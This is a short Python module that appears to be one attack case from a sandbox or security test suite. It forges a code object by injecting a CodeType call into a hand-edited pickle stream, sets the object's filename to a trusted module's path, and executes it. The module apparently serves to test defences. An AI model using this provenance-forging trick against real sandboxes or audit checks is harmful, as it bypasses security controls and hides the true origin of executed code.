"""CodeType is called by a pickle, which names it."""
CATEGORY = "forging"
REACH = "net"

import pickle

from . import payload


def attack():
    import good
    code = payload.act.__code__
    parts = (
        code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount,
        code.co_nlocals, code.co_stacksize, code.co_flags, code.co_code,
        code.co_consts, code.co_names, code.co_varnames, good.__file__,
        "send", "send", 1, code.co_linetable, code.co_exceptiontable)
    data = pickle.dumps(parts, 2)
    data = data[:2] + b"ctypes\nCodeType\n" + data[2:-1] + b"R."
    exec(pickle.loads(data), vars(payload))
